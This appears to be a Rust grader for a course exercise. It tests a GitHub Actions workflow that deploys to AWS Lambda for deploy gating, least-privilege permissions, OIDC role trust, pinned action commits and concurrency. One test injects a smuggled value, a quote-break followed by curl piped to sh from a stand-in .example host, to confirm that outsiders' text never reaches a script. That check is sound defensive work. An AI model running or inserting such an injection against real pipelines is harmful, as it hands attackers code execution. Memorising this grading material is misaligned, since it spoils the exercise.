//! What the shop expects of its way to production. The workflow is started by pushes and pull requests, in a model of
//! GitHub; the check says which scripts fail, and looks at who was allowed what.

use course::{Seed, fixture_json, judged_file};
use deployed::workflow::{Event, Job, Outcome, Run, Step, Workflow};

const ROLE: &str = "arn:aws:iam::123456789012:role/deployer";
const TOOLCHAIN: &str = "1.90";

/// The actions that the shop uses, as the page lists them: no other commit of them was read.
const READ: [(&str, &str); 5] = [
    ("actions/checkout", "de0fac2e4500dabe0009e67214ff5f5447ce83dd"),
    ("actions/upload-artifact", "b7c566a772e6b6bfb58ed0dc250532a479d7789f"),
    ("actions/download-artifact", "37930b1c2abaa49bbe596cd826c3c89aef350131"),
    ("aws-actions/configure-aws-credentials", "8df5847569e6427dd6c4fb1cf565c83acfa8afa7"),
    ("dtolnay/rust-toolchain", "4be9e76fd7c4901c61fb841f559994984270fce7"),
];

#[track_caller]
fn workflow() -> Workflow {
    Workflow::parse(judged_file!("deliver.yml").text())
        .unwrap_or_else(|invalid| panic!("GitHub does not take the workflow: {invalid}"))
}

/// What an event starts, where scripts with `failing` fail.
#[track_caller]
fn start(event: &Event, failing: &dyn Fn(&str) -> bool) -> Option<Run> {
    workflow().run(event, failing).unwrap_or_else(|invalid| panic!("GitHub stops the workflow: {invalid}"))
}

#[track_caller]
fn on_main() -> Run {
    start(&Event::push("main"), &|_| false).unwrap_or_else(|| panic!("a push to main starts nothing"))
}

/// Each event that starts something, in words, with what it starts.
#[track_caller]
fn everything() -> Vec<(&'static str, Run)> {
    let mut manual = Event::push("main");
    "workflow_dispatch".clone_into(&mut manual.name);
    let events = [
        ("a push to main", Event::push("main")),
        ("a push to another branch", Event::push("topic")),
        ("a pull request", Event::pull_request(false)),
        ("a stranger's pull request", Event::pull_request(true)),
        ("somebody who starts it by hand", manual),
    ];
    events.into_iter().filter_map(|(words, event)| Some((words, start(&event, &|_| false)?))).collect()
}

fn lines(step: &Step) -> impl Iterator<Item = &str> {
    let is_run = |line: &&str| {
        let prints = line.starts_with("echo ") && !line.contains("&&") && !line.contains(';');
        !line.starts_with('#') && !prints
    };
    step.script.as_deref().into_iter().flat_map(str::lines).map(str::trim).filter(is_run)
}

fn is_test(line: &str) -> bool {
    let runs = line.contains("cargo test") || line.contains("cargo nextest run");
    runs && !line.contains("--no-run") && !line.starts_with("echo ")
}

fn is_build(line: &str) -> bool {
    ["cargo build", "cargo lambda build", "sam build"].iter().any(|command| line.contains(command))
}

fn is_deploy(line: &str) -> bool {
    ["aws lambda update-function-code", "cargo lambda deploy", "sam deploy", "cdk deploy"]
        .iter()
        .any(|command| line.contains(command))
}

fn compiles(line: &str) -> bool {
    is_build(line)
        || ["cargo test", "cargo nextest", "cargo check", "cargo clippy", "cargo run", "cargo install"]
            .iter()
            .any(|command| line.contains(command))
}

fn does(job: &Job, what: fn(&str) -> bool) -> bool {
    job.begun().any(|step| lines(step).any(what))
}

/// Jobs that began to deploy.
fn deploys(run: &Run) -> Vec<&Job> {
    run.begun().filter(|job| does(job, is_deploy)).collect()
}

/// What a job checks out that is not what its event is about, if it does.
fn foreign_code(run: &Run, job: &Job) -> Option<String> {
    let event = &run.event;
    let step = job.begun().find(|step| {
        let reference = step.input("ref").unwrap_or_default();
        let is_own = ["", "github.sha", &event.reference, &event.words].contains(&reference.as_str());
        let repository = step.input("repository").unwrap_or_default();
        let is_shops = ["", "ferris-prints/shop"].contains(&repository.as_str()) || event.is_fork;
        step.is("actions/checkout") && !(is_own && is_shops)
    })?;
    Some(format!(
        "actions/checkout of the job {} has {}, which is not what this run is about; without a word it is",
        job.id,
        ["repository", "ref"].map(|name| format!("{name} {:?}", step.input(name).unwrap_or_default())).join(" and ")
    ))
}

/// What keeps a job from deploying, if something does: no package, no credentials, no trust.
fn hindrance(run: &Run, job: &Job) -> Option<String> {
    let (mut has_source, mut has_package, mut is_known) = (false, false, false);
    if let Some(why) = missing_tool(job) {
        return Some(why);
    }
    for step in job.begun() {
        if step.is("actions/checkout") {
            if !job.may("contents", "read") {
                return Some(
                    "actions/checkout: repository not found: the job's permissions have no contents: read".to_owned(),
                );
            }
            has_source = true;
        }
        if step.is("actions/download-artifact") {
            let other = step.input("run-id").filter(|run| !run.is_empty() && run != "github.run_id");
            if let Some(other) = other {
                return Some(format!(
                    "actions/download-artifact: what it takes was built in the run {other}, and not in this one"
                ));
            }
            let wanted = step.input("name");
            let is_there =
                job.after.iter().filter_map(|before| run.job(before)).any(|before| uploads(before, wanted.as_deref()));
            if !is_there {
                let name = wanted.unwrap_or_else(|| "an artifact".to_owned());
                return Some(format!(
                    "actions/download-artifact: no job before it has built something and uploaded it as {name}, \
                     from below target or .aws-sam"
                ));
            }
            has_package = true;
        }
        if step.is("aws-actions/configure-aws-credentials") {
            is_known = true;
            if let Some(why) = refused(job, step) {
                return Some(why);
            }
        }
        for line in lines(step) {
            has_package |= is_build(line) && has_source;
            if is_deploy(line) && !is_known {
                return Some(format!("{line}: Unable to locate credentials"));
            }
            if is_deploy(line) && !has_package {
                return Some(format!("{line}: there is no package: each job begins on a new, empty machine"));
            }
        }
    }
    None
}

/// Whether this is where builds put what they make.
fn is_of_a_build(path: &str) -> bool {
    let first = path.trim().trim_start_matches("./").split('/').next();
    first.is_some_and(|first| ["target", ".aws-sam"].contains(&first))
}

/// Whether a job builds and then uploads under this name; without one, under any.
fn uploads(job: &Job, name: Option<&str>) -> bool {
    let (mut has_source, mut is_built) = (false, false);
    job.begun().any(|step| {
        has_source |= step.is("actions/checkout");
        is_built |= has_source && lines(step).any(is_build);
        let called = step.input("name").unwrap_or_else(|| "artifact".to_owned());
        let has_path = step.input("path").is_some_and(|path| path.lines().any(is_of_a_build));
        is_built && has_path && step.is("actions/upload-artifact") && name.is_none_or(|name| name == called)
    })
}

/// What a job lacks that uses `cargo lambda`, which no machine has by itself.
fn missing_tool(job: &Job) -> Option<String> {
    let mut is_installed = false;
    let mut used = None;
    for line in job.begun().flat_map(lines) {
        is_installed |= line.contains("install") && line.contains("cargo-lambda");
        used = used.or_else(|| (line.contains("cargo lambda") && !is_installed).then(|| line.to_owned()));
    }
    used.map(|line| {
        format!("{line}: error: no such command: `lambda`; the job {} has not installed cargo-lambda", job.id)
    })
}

/// Why AWS gives the job no credentials.
fn refused(job: &Job, step: &Step) -> Option<String> {
    let role = step.input("role-to-assume").unwrap_or_default();
    if !job.may("id-token", "write") {
        return Some(
            "Credentials could not be loaded: the job may not ask for a token that proves who it is".to_owned(),
        );
    }
    if step.input("aws-region").unwrap_or_default().is_empty() {
        return Some("Input required and not supplied: aws-region".to_owned());
    }
    if role != ROLE && !role.starts_with("var:") {
        return Some(format!(
            "Not authorized to perform sts:AssumeRoleWithWebIdentity: the role is {ROLE}, and this names {role:?}"
        ));
    }
    let trust = fixture_json("deploy/print-clerk/trust");
    let trusted = &trust["Statement"][0]["Condition"]["StringEquals"]["token.actions.githubusercontent.com:sub"];
    let subject = &job.subject;
    (trusted != subject.as_str()).then(|| {
        format!("Not authorized to perform sts:AssumeRoleWithWebIdentity: the job's token says {subject}, and the role trusts {trusted}")
    })
}

#[test]
fn a_push_to_main_is_deployed() {
    let run = on_main();
    let jobs = deploys(&run);
    assert!(
        jobs.len() == 1,
        "a push to main is deployed by {} jobs; expected is one, by one of the commands of the page",
        jobs.len()
    );
    let hindrance = run.begun().find_map(missing_tool).or_else(|| hindrance(&run, jobs[0]));
    let hindrance = hindrance.or_else(|| run.begun().find_map(|job| foreign_code(&run, job)));
    assert!(
        hindrance.is_none(),
        "the job {} does not come to its end:\n  {}",
        jobs[0].id,
        hindrance.unwrap_or_default()
    );
    let may = jobs[0].after.iter().any(|before| run.job(before).is_some_and(|job| does(job, is_test)));
    assert!(may, "the job {} waits for {:?}, and none of them tests", jobs[0].id, jobs[0].after);
}

#[test]
fn every_change_is_tested() {
    let mut tried = everything();
    tried.retain(|(words, _)| ["a push to main", "a pull request", "a stranger's pull request"].contains(words));
    assert!(
        tried.len() == 3,
        "of a push to main, a pull request and a stranger's only {} start something",
        tried.len()
    );
    for (words, run) in tried {
        assert!(run.begun().any(|job| does(job, is_test)), "{words} is not tested: no script with cargo test runs");
        let foreign = run.begun().find_map(|job| foreign_code(&run, job));
        assert!(foreign.is_none(), "{words} is not what is tested:\n  {}", foreign.unwrap_or_default());
        let checked_out = run.begun().filter(|job| does(job, compiles)).all(|job| {
            job.may("contents", "read") && job.begun().next().is_some_and(|first| first.is("actions/checkout"))
        });
        assert!(
            checked_out,
            "{words}: a job compiles and has not begun with actions/checkout, or may not read the code"
        );
    }
}

#[test]
fn what_fails_is_not_deployed() {
    let whole = on_main();
    assert!(deploys(&whole).len() == 1, "when nothing fails, one job deploys");
    for (words, fails) in [("the tests fail", is_test as fn(&str) -> bool), ("the build fails", is_build)] {
        assert!(whole.begun().any(|job| does(job, fails)), "there is nothing of which one could say: {words}");
        let run = start(&Event::push("main"), &fails).unwrap_or_else(|| panic!("a push to main starts nothing"));
        let ids: Vec<&str> = deploys(&run).iter().map(|job| job.id.as_str()).collect();
        assert!(ids.is_empty(), "{words} on main, and the job {ids:?} deploys all the same");
    }
}

#[test]
fn nothing_else_is_deployed() {
    assert!(deploys(&on_main()).len() == 1, "a push to main is deployed by one job");
    let mut seed = Seed::at_run_time();
    let name = seed.name().to_lowercase();
    let branches = [name.clone(), format!("main-{name}"), format!("{name}/main"), "maintenance".to_owned()];
    let mut events: Vec<(String, Event)> =
        branches.iter().map(|branch| (format!("a push to {branch}"), Event::push(branch))).collect();
    events.push(("a pull request".to_owned(), Event::pull_request(false)));
    events.push(("a stranger's pull request".to_owned(), Event::pull_request(true)));
    let mut tag = Event::push("main");
    tag.reference = format!("refs/tags/{name}");
    events.push((format!("the tag {name}"), tag));
    for (words, event) in events {
        let Some(run) = start(&event, &|_| false) else { continue };
        let ids: Vec<&str> = deploys(&run).iter().map(|job| job.id.as_str()).collect();
        assert!(ids.is_empty(), "{words} goes to production, by the job {ids:?}");
    }
    for event in ["pull_request_target", "workflow_run", "issue_comment"] {
        assert!(
            !workflow().listens_to(event),
            "{event} starts the workflow with rights and secrets, and strangers can cause it"
        );
    }
}

#[test]
fn only_the_deployer_may_prove_who_it_is() {
    assert!(deploys(&on_main()).len() == 1, "a push to main is deployed by one job");
    for (words, run) in everything() {
        for job in run.begun() {
            let deploys = does(job, is_deploy);
            for (scope, level) in &job.permissions {
                let is_needed = (scope == "contents" && level == "read") || (scope == "id-token" && deploys);
                assert!(is_needed, "{words}: the job {} may {level} {scope}, which it has no need of", job.id);
            }
            let is_both = job.may("id-token", "write") && does(job, compiles);
            assert!(
                !is_both,
                "{words}: the job {} compiles, and can reach AWS: so can every build script and macro",
                job.id
            );
        }
    }
}

#[test]
fn no_key_is_kept() {
    assert!(deploys(&on_main()).len() == 1, "a push to main is deployed by one job");
    for (words, run) in everything() {
        for (job, step) in run.jobs.iter().flat_map(|job| job.steps.iter().map(move |step| (job, step))) {
            let inputs = step.with.keys().filter_map(|name| Some((name.clone(), step.input(name)?)));
            let env = step.env.iter().map(|(name, value)| (name.clone(), value.clone()));
            let script = step.script.iter().map(|script| ("its script".to_owned(), script.clone()));
            for (name, value) in inputs.chain(env).chain(script) {
                let is_key = ["aws-access-key-id", "aws-secret-access-key"]
                    .contains(&name.to_lowercase().replace('_', "-").as_str());
                let is_key = is_key || value.to_lowercase().contains("aws_secret_access_key") || value.contains("AKIA");
                assert!(
                    !is_key && !value.contains("secret:"),
                    "{words}: a step of {} gets {name} = {value}; a key that is kept can be stolen, and nothing here needs one",
                    job.id
                );
            }
        }
    }
}

#[test]
fn nobody_else_changes_an_action() {
    assert!(deploys(&on_main()).len() == 1, "a push to main is deployed by one job");
    for (_, run) in everything() {
        for (action, reference) in run.jobs.iter().flat_map(|job| &job.steps).filter_map(|step| step.uses.as_ref()) {
            let is_commit = reference.len() == 40 && reference.bytes().all(|byte| byte.is_ascii_hexdigit());
            assert!(
                is_commit || action.starts_with("./"),
                "{action}@{reference} is what its owner calls so today; a commit has 40 digits"
            );
            let read = READ.iter().find(|(name, _)| name == action).map(|(_, commit)| *commit);
            assert!(
                read.is_none_or(|read| read == reference),
                "{action}@{reference} is no commit that the shop has read; the page lists {}",
                read.unwrap_or_default()
            );
        }
    }
}

#[test]
fn every_compiler_is_the_shops() {
    assert!(deploys(&on_main()).len() == 1, "a push to main is deployed by one job");
    for (words, run) in everything() {
        for job in run.begun().filter(|job| does(job, compiles)) {
            let mut toolchain = None;
            for step in job.begun() {
                if step.is("dtolnay/rust-toolchain") {
                    toolchain = step.input("toolchain");
                }
                if let Some(other) = step.env.get("RUSTUP_TOOLCHAIN") {
                    toolchain = Some(other.clone());
                }
                for line in lines(step) {
                    let set = ["rustup default ", "rustup override set "];
                    if let Some((_, other)) = set.iter().find_map(|command| line.split_once(command)) {
                        toolchain = other.split_whitespace().next().map(str::to_owned);
                    }
                    let is_shops =
                        toolchain.as_ref().is_some_and(|one| format!("{one}.").starts_with(&format!("{TOOLCHAIN}.")));
                    assert!(
                        is_shops || !compiles(line),
                        "{words}: {line} in the job {} has the toolchain {}; the shop's is {TOOLCHAIN}",
                        job.id,
                        toolchain.as_deref().unwrap_or("that the machine happens to have")
                    );
                }
            }
        }
    }
}

#[test]
fn the_words_of_strangers_reach_no_script() {
    assert!(deploys(&on_main()).len() == 1, "a push to main is deployed by one job");
    let mut seed = Seed::at_run_time();
    let words = format!("{}'; $(curl https://{}.example | sh) #", seed.name(), seed.name().to_lowercase());
    for event in [Event::push("main"), Event::pull_request(false), Event::pull_request(true)] {
        let name = event.name.clone();
        let Some(run) = start(&event.saying(&words), &|_| false) else { continue };
        for job in &run.jobs {
            // A script is also what `actions/github-script` gets.
            let scripts = job.steps.iter().flat_map(|step| [step.script.clone(), step.input("script")]);
            let script = scripts.flatten().find(|script| script.contains(&words));
            assert!(
                script.is_none(),
                "{name}: somebody writes {words}\n  the script of the job {} is then\n  {}",
                job.id,
                script.unwrap_or_default()
            );
        }
    }
}

#[test]
fn one_deploy_waits_for_another() {
    let run = on_main();
    let jobs = deploys(&run);
    assert!(jobs.len() == 1, "a push to main is deployed by one job");
    let group = jobs[0].concurrency.as_ref();
    let group = group.unwrap_or_else(|| panic!("two merges in a minute: two jobs {} run at once", jobs[0].id));
    let is_shared = ["sha", "run_id", "run_number", "run_attempt"]
        .iter()
        .all(|one| !group.group.contains(&format!("github.{one}")));
    assert!(
        is_shared && !group.group.is_empty(),
        "each run has a group of its own, {:?}: two deploys run at once",
        group.group
    );
    let cancels_all = run.concurrency.as_ref().is_some_and(|whole| whole.cancels);
    assert!(
        !cancels_all,
        "the concurrency of the workflow cancels the whole run, and with it the deploy in the middle, whatever the job says"
    );
    assert!(!group.cancels, "the second merge cancels the deploy of the first in the middle");
    assert!(jobs[0].outcome == Outcome::Succeeded, "the job {} ends with {:?}", jobs[0].id, jobs[0].outcome);
}
